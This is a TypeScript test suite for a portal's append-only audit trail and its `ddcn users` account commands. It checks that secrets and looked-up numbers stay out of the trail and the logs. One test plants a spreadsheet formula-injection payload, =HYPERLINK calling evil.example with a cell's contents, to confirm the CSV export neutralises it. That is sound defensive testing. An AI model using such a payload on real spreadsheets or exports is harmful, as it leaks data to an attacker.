// The audit trail: a row for every sign-in, sign-out, download, upload, correction, look-up and `ddcn users`
// command; the trail cannot be changed; a looked-up number reaches neither the trail nor the logs.
import { Writable } from 'node:stream';
import { afterEach, describe, expect, it } from 'vitest';
import { buildPortal, type Portal } from '../../src/portal/app.js';
import { DEFAULT_PORTAL_SETTINGS } from '../../src/portal/settings.js';
import { audit } from '../../src/db/audit.js';
import { loadMigrations } from '../../src/db/migrate.js';
import { createLogger } from '../../src/log.js';
import { databasePerFile, deps, rows, useTempDir, writeParticipants, FIXED_NOW } from '../helpers/pipeline.js';
import { importParticipants } from '../../src/pipeline/import-participants.js';
import { ddcn } from '../helpers/cli.js';
import { fillMau02 } from './fill-mau02.js';
import { Client, seed, signedIn } from './harness.js';

const database = databasePerFile();
let open: Portal | null = null;
afterEach(async () => {
  await open?.app.close();
  open = null;
});

describe('portal audit trail', () => {
  it('has a row for each audited action, and audit.csv gives them to the national office', async () => {
    const { db } = database();
    await seed(db, await useTempDir());
    let logs = '';
    const log = createLogger('info', new Writable({ write: (chunk, _enc, done) => ((logs += String(chunk)), done()) }));
    open = await buildPortal({ deps: { db, log, now: () => FIXED_NOW }, settings: DEFAULT_PORTAL_SETTINGS });
    const app = open.app;

    await new Client(app).signIn('tinh-001', 'sai-mat-khau-nay');
    // A password typed into the login field, for no account: kept in no row and no log line.
    await new Client(app).signIn('Mat-Khau-Go-Nham', 'x');
    const office = await signedIn(app, 'tinh-001');
    await office.post('/lookup', { number: '012345612' });
    await office.get('/units/HN0010002/mau01.xlsx');
    const sheet = await office.get('/units/HN0010002/mau02.xlsx');
    await office.get('/report/mau03.xlsx?period=month');
    await office.upload('/units/HN0010002/corrections', { name: 'tra-ve.xlsx', body: await fillMau02(sheet.raw, { '0010000012': { 10: 'Hoàng Văn Êm' } }) });
    // A date that is none: refused before anything is written, audited by its status, never what was typed.
    expect((await office.post('/units/HN0010002/people/0010000013', { ngay_sinh: '32/13/1980' })).status).toBe(422);
    await office.post('/units/HN0010002/people/0010000013', { so_ddcn: '001170000013' });
    await office.post('/logout', {});

    const trail = await rows<{ login: string; action: string; object: string; result: string; ip: string }>(
      db, `SELECT login, action, object, result, ip FROM audit_log ORDER BY id`);
    expect(trail.map((r) => [r.login, r.action, r.object, r.result])).toEqual([
      ['tinh-001', 'login', '', 'wrong-password'],
      [null, 'login', '', 'unknown-login'],
      ['tinh-001', 'login', '', 'ok'],
      ['tinh-001', 'lookup', '', '1 found'],
      ['tinh-001', 'download', 'mau01 HN0010002', 'ok'],
      ['tinh-001', 'download', 'mau02 HN0010002', 'ok'],
      ['tinh-001', 'download', 'mau03 001 month 2024-06-03', 'ok'],
      ['tinh-001', 'upload', 'mau02 HN0010002 upload 1', 'ok: 1 corrected, 0 rejected'],
      ['tinh-001', 'correct', 'HN0010002 0010000013', 'refused 422'],
      ['tinh-001', 'correct', 'HN0010002 0010000013', 'ok: 1 values'],
      ['tinh-001', 'logout', '', 'ok'],
    ]);
    expect(trail.every((r) => r.ip === '127.0.0.1')).toBe(true);
    // The number looked up is in no row and no log line.
    expect(JSON.stringify(trail)).not.toContain('012345612');
    expect(JSON.stringify(trail)).not.toContain('32/13/1980');
    expect(logs).toContain('"stage":"login"');
    expect(logs).not.toContain('012345612');
    expect(logs).not.toContain('sai-mat-khau-nay');
    expect(logs.toLowerCase()).not.toContain('mat-khau-go-nham');
    expect(JSON.stringify(trail).toLowerCase()).not.toContain('mat-khau-go-nham');

    const national = await signedIn(app, 'tw');
    const csv = await national.get('/audit.csv');
    expect(csv.status).toBe(200);
    const lines = csv.body.trim().split('\n');
    expect(lines[0]).toBe('at,login,action,object,result,ip');
    expect(lines[1]).toBe('2024-06-03T01:30:00.000Z,tinh-001,login,"",wrong-password,127.0.0.1');
    expect(lines[2]).toBe('2024-06-03T01:30:00.000Z,,login,"",unknown-login,127.0.0.1');
  });

  it('gives audit.csv text that no spreadsheet runs: a value starting =, +, -, @ is written as text', async () => {
    const { db } = database();
    await seed(db, await useTempDir());
    open = await buildPortal({ deps: { db, log: createLogger('silent'), now: () => FIXED_NOW }, settings: DEFAULT_PORTAL_SETTINGS });
    // A unit code, an address forwarded by a proxy: text from outside, as the trail stores it.
    await audit(db, { at: FIXED_NOW, login: 'tw', action: 'download', object: '=HYPERLINK("http://evil.example/?"&B2)', result: '@SUM(1)', ip: '-2+3' });
    await audit(db, { at: FIXED_NOW, login: 'tw', action: 'download', object: 'mau01 =X', result: 'ok', ip: '+1' });
    const csv = await (await signedIn(open.app, 'tw')).get('/audit.csv');
    const lines = csv.body.trim().split('\n');
    expect(lines).toContain(`2024-06-03T01:30:00.000Z,tw,download,"'=HYPERLINK(""http://evil.example/?""&B2)",'@SUM(1),'-2+3`);
    expect(lines).toContain(`2024-06-03T01:30:00.000Z,tw,download,mau01 =X,ok,'+1`);
  });

  it('keeps no text typed for no account from before either: migration 0030 empties those logins, and nothing else', async () => {
    const { db } = database();
    await db.query(`INSERT INTO audit_log (at, login, action, object, result, ip) VALUES
      (now(), 'mat-khau-cu-go-nham', 'login', '', 'unknown-login', '10.0.0.1'),
      (now(), 'tinh-001', 'login', '', 'wrong-password', '10.0.0.1')`);
    const m = (await loadMigrations()).find((x) => x.name.startsWith('0030_'))!;
    await db.withTransaction((tx) => tx.query(m.sql));
    expect(await rows(db, 'SELECT login, result, ip FROM audit_log ORDER BY id')).toEqual([
      { login: null, result: 'unknown-login', ip: '10.0.0.1' },
      { login: 'tinh-001', result: 'wrong-password', ip: '10.0.0.1' },
    ]);
    await expect(db.query(`UPDATE audit_log SET result = 'x'`)).rejects.toThrow(/append-only/); // still append-only
  });

  it('cannot be changed or emptied', async () => {
    const { db } = database();
    await db.query(`INSERT INTO audit_log (at, login, action, object, result, ip) VALUES (now(), 'tw', 'login', '', 'ok', '127.0.0.1')`);
    await expect(db.query(`UPDATE audit_log SET result = 'x'`)).rejects.toThrow(/append-only/);
    await expect(db.query(`DELETE FROM audit_log`)).rejects.toThrow(/append-only/);
    await expect(db.query(`TRUNCATE audit_log`)).rejects.toThrow(/append-only/);
    expect(await rows(db, 'SELECT result FROM audit_log')).toEqual([{ result: 'ok' }]);
  });

  it('records the `ddcn users` commands, which manage accounts as the contract says', async () => {
    const { db, url } = database();
    const env = { DATABASE_URL: url };
    // The province as the data writes it: 79 is taken as 079; a code nobody is in gets no account.
    const people = [
      { ma_so_bhxh: '7900000001', ho_ten: 'Trần Thị Lan', ngay_sinh: '1985', gioi_tinh: 'Nữ', so_giay_to: '023456781', ma_don_vi: 'SG0790001', ma_tinh: '079', ma_huyen: '760' },
      { ma_so_bhxh: '0100000001', ho_ten: 'Lê Văn Ba', ngay_sinh: '1971', gioi_tinh: 'Nam', so_giay_to: '023456782', ma_don_vi: 'HN0010001', ma_tinh: '001' },
    ];
    await importParticipants(deps(db), await writeParticipants(await useTempDir(), people));
    const add = await ddcn(['users', 'add', 'tinh-079', '--role', 'province', '--province', '79'], env);
    expect(add.code, add.stderr).toBe(0);
    const nowhere = await ddcn(['users', 'add', 'tinh-099', '--role', 'province', '--province', '99'], env);
    expect(nowhere.code).toBe(1);
    expect(nowhere.stderr).toMatch(/no province 99 in .*Check --province/);
    const noDistrict = await ddcn(['users', 'add', 'huyen-x', '--role', 'district', '--province', '79', '--district', '761'], env);
    expect(noDistrict.code).toBe(1);
    expect(noDistrict.stderr).toMatch(/no district 761 of province 079 in .*Check --district/);
    const noUnit = await ddcn(['users', 'add', 'dv-x', '--role', 'unit', '--unit', 'HN001000'], env);
    expect(noUnit.code).toBe(1);
    expect(noUnit.stderr).toMatch(/no unit HN001000 in .*; nearest codes: HN0010001/);
    const password = add.stdout.trim();
    expect(password).toMatch(/^\S{16}$/);
    expect((await ddcn(['users', 'add', 'tinh-079', '--role', 'national'], env)).code).toBe(1); // taken
    expect((await ddcn(['users', 'add', 'x1', '--role', 'district', '--province', '079'], env)).code).toBe(2); // no --district
    expect((await ddcn(['users', 'list'], env)).stdout).toBe('tinh-079\tprovince\t079\tactive\n');

    open = await buildPortal({ deps: { db, log: createLogger('silent'), now: () => new Date() }, settings: DEFAULT_PORTAL_SETTINGS });
    const c = new Client(open.app);
    expect((await c.signIn('tinh-079', password)).status).toBe(303);
    expect((await c.get('/units')).status).toBe(200);
    expect((await ddcn(['users', 'disable', 'tinh-079'], env)).code).toBe(0);
    expect((await c.get('/units')).status).toBe(303);
    expect(await rows(db, 'SELECT login, disabled FROM portal_user')).toEqual([{ login: 'tinh-079', disabled: true }]);
    const reset = await ddcn(['users', 'reset-password', 'tinh-079'], env);
    expect(reset.code).toBe(0);
    const newPassword = reset.stdout.trim();
    expect(newPassword).not.toBe(password);
    // A new password does not enable the account, and says so; `users enable` does.
    expect(reset.stderr).toContain('password of tinh-079 reset; its sessions have ended. The account is still disabled: `ddcn users enable tinh-079` lets it sign in');
    expect((await new Client(open.app).signIn('tinh-079', newPassword)).status).not.toBe(303);
    const enable = await ddcn(['users', 'enable', 'tinh-079'], env);
    expect(enable.code, enable.stderr).toBe(0);
    expect(enable.stderr).toContain('account tinh-079 enabled; it signs in with its password');
    expect((await new Client(open.app).signIn('tinh-079', newPassword)).status).toBe(303);
    expect((await ddcn(['users', 'list'], env)).stdout).toBe('tinh-079\tprovince\t079\tactive\n');
    expect((await ddcn(['users', 'enable', 'khong-co'], env)).code).toBe(1);

    const trail = await rows<{ action: string; object: string }>(db, `SELECT action, object FROM audit_log ORDER BY id`);
    expect(trail.filter((r) => r.action === 'users').map((r) => r.object)).toEqual([
      'add tinh-079 (province)', 'disable tinh-079', 'reset-password tinh-079', 'enable tinh-079',
    ]);
  }, 600_000); // ten runs of the real CLI: each takes half a minute on a loaded machine

  it('takes a password on stdin as its one line (\\n or \\r\\n after it), and refuses a second line rather than keep a password nobody can type', async () => {
    const { db, url } = database();
    const env = { DATABASE_URL: url };
    const twoLines = await ddcn(['users', 'add', 'tw-2', '--role', 'national', '--password-stdin'], env, 60_000, 'Mat-khau-dai-1234\n\n');
    expect(twoLines.code).toBe(2);
    expect(twoLines.stderr).toContain('the password on stdin must be one line, without tabs or other control characters: nothing was changed');
    expect(await rows(db, 'SELECT login FROM portal_user')).toEqual([]);
    expect((await ddcn(['users', 'add', 'tw-2', '--role', 'national', '--password-stdin'], env, 60_000, 'Mat-khau-dai-1234\r\n')).code).toBe(0);
    expect((await ddcn(['users', 'reset-password', 'tw-2', '--password-stdin'], env, 60_000, 'Mat-khau\tmoi-5678\n')).code).toBe(2);
    open = await buildPortal({ deps: { db, log: createLogger('silent'), now: () => new Date() }, settings: DEFAULT_PORTAL_SETTINGS });
    expect((await new Client(open.app).signIn('tw-2', 'Mat-khau-dai-1234')).status).toBe(303);
  }, 120_000);

  it('before any import, refuses a province or district that is no number of 1–3 digits, and keeps a district in 3 digits', async () => {
    const { db, url } = database();
    const env = { DATABASE_URL: url };
    const bad = await ddcn(['users', 'add', 'tinh-x', '--role', 'province', '--province', 'abc'], env);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--province abc: a province code is a number of 1–3 digits (79 or 079)');
    expect((await ddcn(['users', 'add', 'huyen-x', '--role', 'district', '--province', '79', '--district', '0760'], env)).code).toBe(2);
    const ok = await ddcn(['users', 'add', 'huyen-5', '--role', 'district', '--province', '1', '--district', '5'], env);
    expect(ok.code, ok.stderr).toBe(0);
    expect(await rows(db, 'SELECT login, ma_tinh, ma_huyen FROM portal_user')).toEqual([{ login: 'huyen-5', ma_tinh: '1', ma_huyen: '005' }]);
  }, 120_000);

  it('takes a district written without its leading zero (`--district 76`) as the data writes it, as a province', async () => {
    const { db, url } = database();
    const people = [
      { ma_so_bhxh: '7900000002', ho_ten: 'Trần Văn Nam', ngay_sinh: '1986', gioi_tinh: 'Nam', so_giay_to: '023456783', ma_don_vi: 'SG0790002', ma_tinh: '079', ma_huyen: '076' },
    ];
    await importParticipants(deps(db), await writeParticipants(await useTempDir(), people));
    const add = await ddcn(['users', 'add', 'huyen-076', '--role', 'district', '--province', '79', '--district', '76'], { DATABASE_URL: url });
    expect(add.code, add.stderr).toBe(0);
    expect((await ddcn(['users', 'list'], { DATABASE_URL: url })).stdout).toBe('huyen-076\tdistrict\t079/076\tactive\n');
  }, 120_000);

  it('says when there is no account to list, and when the account to enable was not disabled', async () => {
    const { db, url } = database();
    const env = { DATABASE_URL: url };
    const empty = await ddcn(['users', 'list'], env);
    expect(empty.code, empty.stderr).toBe(0);
    expect(empty.stdout).toBe(''); // stdout holds accounts only
    expect(empty.stderr).toMatch(/^no accounts in .*: `ddcn users add LOGIN --role national\|province\|district\|unit` creates one$/m);
    expect((await ddcn(['users', 'add', 'quoc-gia', '--role', 'national'], env)).code).toBe(0);
    expect((await ddcn(['users', 'list'], env)).stderr).not.toContain('no accounts');

    const active = await ddcn(['users', 'enable', 'quoc-gia'], env);
    expect(active.code, active.stderr).toBe(0);
    expect(active.stderr).toContain('account quoc-gia is active already (neither disabled nor locked out): nothing to enable;');
    expect(active.stderr).not.toContain('account quoc-gia enabled');

    await db.query(`UPDATE portal_user SET failed_logins = 5, locked_until = now() + interval '1 hour'`);
    const locked = await ddcn(['users', 'enable', 'quoc-gia'], env);
    expect(locked.code, locked.stderr).toBe(0);
    expect(locked.stderr).toContain('account quoc-gia was not disabled, only locked out after failed sign-ins; the lock-out is lifted');
    expect(await rows(db, 'SELECT failed_logins, locked_until FROM portal_user')).toEqual([{ failed_logins: 0, locked_until: null }]);
  }, 120_000);
});
